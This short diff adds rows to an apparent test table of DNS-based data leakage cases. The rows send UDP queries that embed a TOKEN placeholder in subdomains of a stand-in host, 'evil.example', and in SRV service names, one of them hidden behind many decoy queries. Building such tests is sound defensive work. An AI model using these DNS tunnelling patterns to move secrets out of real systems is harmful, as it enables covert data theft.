@@ -133,6 +133,11 @@ NAMES = [
         alone=False),
     Row("dns-https", TYPES, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 65)),
         alone=False),
+    Row("dns-service-long", LOOKUP,
+        send("udp", RESOLVER, 53, question(f"_aTOKEN._tcp.{NAME}", 33))),
+    Row("dns-service-many", ("net:services",), send("udp", RESOLVER, 53, *(
+        ("+" if i else "", question(f"_n{i}._tcp.{NAME}", 33)) for i in range(MANY)),
+        ("+", question(f"_TOKEN._tcp.{NAME}", 33)))),
     Row("dns-suffix", LOOKUP,
         send("udp", RESOLVER, 53, question("ok.example.TOKEN.example"))),
     Row("dns-wildcard-deep", LOOKUP,
